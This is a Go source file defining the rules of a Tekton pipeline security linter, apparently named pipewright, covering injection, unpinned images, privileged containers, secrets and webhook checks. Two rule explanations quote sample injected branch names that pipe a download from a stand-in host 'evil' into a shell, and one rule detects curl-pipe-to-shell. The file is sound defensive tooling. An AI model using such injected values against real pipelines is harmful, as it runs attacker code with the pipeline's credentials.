package lint

import (
	"fmt"
	"sort"
	"strings"
)

// Severity orders findings; the names are SARIF's levels.
type Severity int

const (
	Note Severity = iota
	Warning
	Error
)

func (s Severity) String() string {
	switch s {
	case Error:
		return "error"
	case Warning:
		return "warning"
	}
	return "note"
}

// ParseSeverity reads error, warning or note.
func ParseSeverity(s string) (Severity, error) {
	switch strings.ToLower(s) {
	case "error":
		return Error, nil
	case "warning", "warn":
		return Warning, nil
	case "note", "info":
		return Note, nil
	}
	return 0, fmt.Errorf("unknown severity %q (want error, warning or note)", s)
}

// Rule describes one check. Security is the CVSS-like score GitHub code
// scanning reads from SARIF's security-severity; empty for non-security rules.
type Rule struct {
	ID       string
	Severity Severity
	Short    string // one line, what is wrong
	Explain  string // why it matters
	Fix      string // what to do instead
	Security string
}

// Rules is every rule, in the order the docs list them.
var Rules = []Rule{
	{
		ID: "injection", Severity: Error, Security: "8.8",
		Short:   "a Tekton variable with untrusted text is interpolated into code",
		Explain: "Tekton substitutes $(params.*), $(tasks.*.results.*), $(body.*) and $(tt.params.*) as plain text before the container starts. Put into a script, into the string a shell runs with -c, or into a command, the value becomes code: a branch name or PR title like `x\"; curl evil | sh; \"` runs with the step's credentials.",
		Fix:     "Pass the value through env (env: [{name: PARAM_X, value: $(params.x)}]) and read \"${PARAM_X}\" in the script, quoted.",
	},
	{
		ID: "unpinned-image", Severity: Warning, Security: "5.0",
		Short:   "step image is not pinned by digest",
		Explain: "A tag can be moved to different content at any time, by the publisher or by whoever takes over the registry account. A digest names exactly the image that was reviewed, so a run today and a run next month execute the same bits.",
		Fix:     "Append the digest: image: registry/name:tag@sha256:<digest> (crane digest registry/name:tag prints it).",
	},
	{
		ID: "latest-tag", Severity: Warning, Security: "5.0",
		Short:   "step image uses the latest tag (or no tag)",
		Explain: "latest (which is what an image without a tag means) changes with every push upstream, so builds are not reproducible and break or change behaviour without any change in the repository.",
		Fix:     "Name a version tag and pin its digest: image: registry/name:1.2.3@sha256:<digest>.",
	},
	{
		ID: "privileged", Severity: Error, Security: "9.0",
		Short:   "container runs privileged",
		Explain: "privileged: true gives the container every capability and the host's devices; code in it (including the code under test) can take over the node and every other pod's secrets on it.",
		Fix:     "Remove privileged: true. For image builds use a daemonless, rootless builder (rootless BuildKit, buildah in rootless mode, ko).",
	},
	{
		ID: "run-as-root", Severity: Warning, Security: "6.0",
		Short:   "container runs as root (runAsUser: 0)",
		Explain: "A root process can modify the image it runs in, write to mounted volumes as any user and has a much shorter path to a container escape.",
		Fix:     "Set securityContext.runAsUser to a non-zero uid and runAsNonRoot: true. If the step must be root, say why in the Task annotation pipewright.dev/root-steps (\"step: reason\").",
	},
	{
		ID: "missing-run-as-non-root", Severity: Note, Security: "4.0",
		Short:   "step does not set runAsNonRoot: true",
		Explain: "Without runAsNonRoot the kubelet runs the image's default user, which for most images is root. Setting it makes the kubelet refuse to start the container as root.",
		Fix:     "Add securityContext: {runAsNonRoot: true, runAsUser: 65532} to the step or the Task's stepTemplate.",
	},
	{
		ID: "added-capabilities", Severity: Warning, Security: "6.0",
		Short:   "container adds Linux capabilities",
		Explain: "Capabilities such as SYS_ADMIN, NET_ADMIN or DAC_OVERRIDE lift kernel protections for every process in the container, including code from the repository being built.",
		Fix:     "Drop ALL and add nothing; if a step needs a capability, document why in pipewright.dev/root-steps or an inline # pipewright:ignore comment.",
	},
	{
		ID: "host-path", Severity: Error, Security: "8.0",
		Short:   "hostPath volume",
		Explain: "A hostPath volume exposes the node's file system (often the container runtime socket) to the pod; anything running in the pod can then control the node.",
		Fix:     "Use an emptyDir, a workspace backed by a PersistentVolumeClaim, or a projected Secret/ConfigMap.",
	},
	{
		ID: "secrets-in-untrusted-run", Severity: Error, Security: "9.0",
		Short:   "a pull-request triggered run gives secrets to steps that run the pull request's code",
		Explain: "A pull request can change the build scripts, tests and Dockerfile the pipeline runs. Any Secret workspace or service-account token mounted into those steps can be read and sent out by the pull request's author, who may be anyone on a public repository.",
		Fix:     "Give Secret workspaces only to steps that do not run checked-out code (cloning, status reporting), and set podTemplate.automountServiceAccountToken: false on pull-request runs; push and publish from a separate, trusted pipeline.",
	},
	{
		ID: "missing-timeout", Severity: Note,
		Short:   "no timeout",
		Explain: "Without a timeout a hung step holds its node's resources (and any lock it took) until the cluster default, one hour, or forever when that default is 0.",
		Fix:     "Set spec.timeouts.pipeline on PipelineRuns and timeout on every pipeline task.",
	},
	{
		ID: "missing-resources", Severity: Note,
		Short:   "step has no resource requests",
		Explain: "A step without requests is scheduled as if it needed nothing: pods pile onto one node and are evicted or OOM-killed under load, which shows up as flaky builds.",
		Fix:     "Set computeResources.requests (cpu, memory) on the step or in stepTemplate.",
	},
	{
		ID: "wiring", Severity: Error,
		Short:   "a pipeline task does not match the Task it runs",
		Explain: "The pipeline omits a param the referenced Task requires, binds a workspace it does not declare, or reads a result it does not declare: Tekton accepts the Pipeline and fails at run time. Checks follow Tekton's own resolution: embedded taskSpecs receive the pipeline's params and workspaces, and matrix params count as passed. A param the Task does not declare is a warning only (Tekton ignores it; often a typo).",
		Fix:     "Make the pipeline task's params, workspaces and $(tasks.X.results.Y) references match the Task's declarations.",
	},
	{
		ID: "unused-param", Severity: Note,
		Short:   "param is declared but never used",
		Explain: "A param nobody reads is a promise the Task or Pipeline does not keep: users set it and nothing changes. It often means a typo in a $(params.x) reference.",
		Fix:     "Use the param (through env for scripts) or remove it.",
	},
	{
		ID: "unwritten-result", Severity: Warning,
		Short:   "result is declared but no step writes it",
		Explain: "No step script, argument, command or env var refers to $(results.X.path), so the result is never written and every pipeline task reading it fails.",
		Fix:     "Write the result to $(results.X.path) (for scripts through an env var such as RESULT_X_PATH) or remove the declaration.",
	},
	{
		ID: "run-after-missing", Severity: Error,
		Short:   "runAfter names a task that is not in the pipeline",
		Explain: "runAfter must name another pipeline task; a typo makes the Pipeline invalid.",
		Fix:     "Fix the name or remove the entry.",
	},
	{
		ID: "tekton-validate", Severity: Error,
		Short:   "Tekton's own validation rejects the object",
		Explain: "The Tekton (or Triggers) admission webhook runs the same SetDefaults and Validate; kubectl apply would fail with this message.",
		Fix:     "Correct the field the message names.",
	},
	{
		ID: "decode", Severity: Error,
		Short:   "the YAML does not decode into the Tekton type",
		Explain: "The document is not valid YAML, or a value has the wrong type for its Tekton field (a string where a list belongs). kubectl apply fails on it. When the rest of the object still decodes, the other rules run on it anyway; Tekton's validation does not.",
		Fix:     "Fix the YAML syntax or the field type the message names.",
	},
	{
		ID: "unknown-field", Severity: Warning,
		Short:   "a field the Tekton type does not know",
		Explain: "The API server drops unknown fields (with a warning at most), so a misspelt field is a setting that never takes effect: a securityContext under the wrong key protects nothing. The other rules still run on the object; Tekton's validation does not.",
		Fix:     "Fix the field name or move it where the Tekton type expects it.",
	},
	{
		ID: "duplicate-key", Severity: Warning,
		Short:   "a key is set twice in one YAML mapping",
		Explain: "YAML forbids repeated keys; Kubernetes keeps the last value and drops the first without a word, so a reviewer reading the first value is misled. (A key overriding a merged <<: *anchor is fine and not reported.)",
		Fix:     "Remove one of the two keys.",
	},
	{
		ID: "removed-kind", Severity: Warning,
		Short:   "the kind is no longer served by Tekton",
		Explain: "Tekton Pipelines v1 no longer serves ClusterTask (nor Condition or PipelineResource): applying the file fails and runs that reference it do not start. Its steps are still linted.",
		Fix:     "Turn a ClusterTask into a Task and reference it with the cluster resolver (resolver: cluster, params kind/name/namespace).",
	},
	{
		ID: "skipped", Severity: Note,
		Short:   "a document was not linted",
		Explain: "Go/Helm templates, kustomize patches and fragments without apiVersion and kind are not objects until rendered; linting their text would report noise, so they are skipped and counted in the summary.",
		Fix:     "Lint the rendered YAML (helm template ... | pipewright lint -, kustomize build ... | pipewright lint -).",
	},
	{
		ID: "webhook-secret", Severity: Error, Security: "8.0",
		Short:   "trigger does not verify the webhook's signature",
		Explain: "Without the GitHub interceptor's secretRef (or the GitLab/Bitbucket equivalent) anyone who can reach the EventListener can send a forged event and start pipelines with parameters they choose.",
		Fix:     "Add interceptor ref github with params secretRef: {secretName, secretKey} naming the webhook secret.",
	},
	{
		ID: "cel-accept-all", Severity: Warning, Security: "4.0",
		Short:   "CEL filter accepts every action or every ref",
		Explain: "A pull_request filter that does not check body.action also fires on closed, labeled and edited events; a push filter that does not check body.ref fires for every branch and tag. Both start runs nobody asked for, and the release pipeline runs for any branch.",
		Fix:     "Test the action (body.action in ['opened', 'synchronize', 'reopened']) or the ref (body.ref == 'refs/heads/main').",
	},
	{
		ID: "pac-injection", Severity: Error, Security: "8.8",
		Short:   "a Pipelines-as-Code placeholder with text from the event is put into code",
		Explain: "Pipelines-as-Code replaces {{ body.* }} (except fields GitHub fills with shas, numbers and ids), {{ files.* }}, {{ source_branch }} and {{ trigger_comment }} in the PipelineRun's text before Tekton sees it. In a script, a command or a shell -c argument, a branch named `x;curl${IFS}evil|sh` or a comment becomes code run with the pipeline's credentials.",
		Fix:     "Pass the placeholder as a PipelineRun param, read it through env in the step (env: [{name: BRANCH, value: $(params.branch)}]) and use \"${BRANCH}\" quoted.",
	},
	{
		ID: "pac-untrusted-param", Severity: Warning, Security: "5.0",
		Short:   "a param gets text an outsider controls from a Pipelines-as-Code placeholder",
		Explain: "{{ body.* }}, {{ source_branch }} and {{ trigger_comment }} are chosen by whoever opens the pull request or writes the comment. As a param value they are data, which is fine while every Task reads the param through env; one $(params.x) in a script turns it into code.",
		Fix:     "Check that every Task reading the param passes it through env, or use a value the repository controls ({{ revision }}, {{ repo_url }}).",
	},
	{
		ID: "unpinned-ref", Severity: Warning, Security: "5.0",
		Short:   "a remote Task or Pipeline is referenced by something that can move",
		Explain: "A git resolver revision naming a branch, an http resolver URL under refs/heads or a branch, a bundle without a digest, a Tekton Hub reference and a Pipelines-as-Code task annotation pointing at a branch or a hub name all resolve to whatever is there at run time: whoever can push there changes what your pipeline runs, with its secrets.",
		Fix:     "Pin the commit (revision: <40-hex sha>), the bundle digest (bundle: registry/x@sha256:...), or vendor the Task into the repository.",
	},
	{
		ID: "hardcoded-secret", Severity: Error, Security: "7.5",
		Short:   "a credential is written in the YAML",
		Explain: "A Secret's data or stringData, or a param/env value that looks like a token (named token, password, secret, apikey, or shaped like ghp_..., AKIA..., a private key), committed to the repository is readable by everyone who can read the repository, forever, in its history.",
		Fix:     "Remove it, rotate the credential, and create the Secret out of band (sealed-secrets, external-secrets, kubectl create secret); reference it with secretKeyRef.",
	},
	{
		ID: "curl-pipe-shell", Severity: Warning, Security: "6.0",
		Short:   "a script pipes a download into a shell",
		Explain: "curl ... | sh runs whatever the server (or anyone on the path, or whoever took over the domain) returns, unreviewed and unpinned, with the step's credentials.",
		Fix:     "Download a pinned version, check its sha256 (echo \"<sum>  file\" | sha256sum -c), then run it; better, put the tool in a pinned image.",
	},
	{
		ID: "host-namespace", Severity: Error, Security: "8.0",
		Short:   "pod shares the node's network, PID or IPC namespace",
		Explain: "hostNetwork lets the pod reach node-local services (the kubelet, cloud metadata, other pods' localhost ports); hostPID and hostIPC let it see and signal every process on the node. Code being built or tested then reaches well beyond its pipeline.",
		Fix:     "Remove hostNetwork, hostPID and hostIPC from the podTemplate.",
	},
	{
		ID: "privilege-escalation", Severity: Warning, Security: "5.0",
		Short:   "container allows privilege escalation",
		Explain: "allowPrivilegeEscalation: true lets a process gain more privileges than its parent (setuid binaries such as sudo), so a non-root step can become root.",
		Fix:     "Set allowPrivilegeEscalation: false (and drop ALL capabilities).",
	},
	{
		ID: "on-error-continue", Severity: Note,
		Short:   "a step's failure is ignored (onError: continue)",
		Explain: "With onError: continue the TaskRun succeeds even when the step fails; for a test, scan or signature check that turns a failed gate into a pass nobody notices.",
		Fix:     "Remove onError: continue, or read the step's exit code ($(steps.NAME.exitCode.path)) in a later step and decide there.",
	},
	{
		ID: "bad-ignore", Severity: Warning,
		Short:   "a pipewright:ignore comment or root-steps entry has no reason or names an unknown rule or step",
		Explain: "Suppressions are reviewed like code; one without a reason cannot be reviewed, and one naming a rule or step that does not exist hides nothing, so neither suppresses anything.",
		Fix:     "Write the reason after the rule ids: # pipewright:ignore run-as-root the vendor image only runs as root.",
	},
}

var rulesByID = func() map[string]*Rule {
	m := map[string]*Rule{}
	for i := range Rules {
		m[Rules[i].ID] = &Rules[i]
	}
	return m
}()

// Lookup returns the rule with id (with or without the pipewright/ prefix).
func Lookup(id string) (*Rule, error) {
	r, ok := rulesByID[strings.TrimPrefix(id, "pipewright/")]
	if !ok {
		ids := make([]string, 0, len(rulesByID))
		for k := range rulesByID {
			ids = append(ids, k)
		}
		sort.Strings(ids)
		return nil, fmt.Errorf("unknown rule %q (rules: %s)", id, strings.Join(ids, ", "))
	}
	return r, nil
}

// ExplainText is what --explain prints.
func (r *Rule) ExplainText() string {
	sec := ""
	if r.Security != "" {
		sec = ", security-severity " + r.Security
	}
	return fmt.Sprintf("%s (%s%s): %s\n\n%s\n\nFix: %s\n", r.ID, r.Severity, sec, r.Short, r.Explain, r.Fix)
}

// RulesMarkdown is docs/lint-rules.md, the page SARIF's helpUri points at:
// one section per rule, anchored by its id.
func RulesMarkdown() string {
	var b strings.Builder
	b.WriteString("# pipewright lint rules\n\nGenerated from pkg/lint/rules.go (`go test ./pkg/lint -run TestRulesDoc -update`).\n" +
		"`pipewright lint --fail-on` defaults to `error`.\n")
	for _, r := range Rules {
		sec := ""
		if r.Security != "" {
			sec = ", security-severity " + r.Security
		}
		fmt.Fprintf(&b, "\n<a id=\"%s\"></a>\n## %s\n\n%s%s. %s\n\n%s\n\n**Fix:** %s\n", r.ID, r.ID, strings.ToUpper(r.Severity.String()[:1]), r.Severity.String()[1:]+sec, r.Short, r.Explain, r.Fix)
	}
	return b.String()
}
